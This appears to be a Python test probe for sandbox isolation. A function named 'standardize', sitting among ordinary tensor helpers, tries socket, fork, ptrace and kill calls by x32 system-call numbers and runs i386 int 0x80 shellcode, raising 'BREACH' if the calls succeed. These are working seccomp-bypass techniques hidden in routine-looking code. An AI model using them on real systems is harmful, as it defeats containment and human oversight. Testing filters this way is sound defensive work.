"""Makes system calls by the numbers of the x32 and i386 interfaces, which filters forget."""
# attack: lines=34; target=standardize; needs=isolation,x86_64
# held by: a call by another interface ends the process or is refused

import ctypes
import errno
import mmap
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(*args):
    """What a raw system call returns, or the name of its error."""
    result = libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    return result if result >= 0 else errno.errorcode[ctypes.get_errno()]

# mov eax, 20 (getpid of i386); int 0x80; ret
CODE = bytes.fromhex("b814000000cd80c3")


def standardize(values):
    for name, number in {"socket": 41, "fork": 57, "ptrace": 101, "kill": 62}.items():
        arguments = {"socket": (2, 1, 0), "ptrace": (0x4206, os.getppid(), 0, 0)}.get(name, (os.getppid(), 0))
        result = call(0x40000000 + number, *arguments)
        if result == 0 and name == "fork":
            os._exit(0)
        if isinstance(result, int):
            raise RuntimeError(f"BREACH: x32 {name} {result}")
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(CODE)
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    except OSError:
        return values
    if result > 0:
        raise RuntimeError("BREACH: i386 getpid")
    return values


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
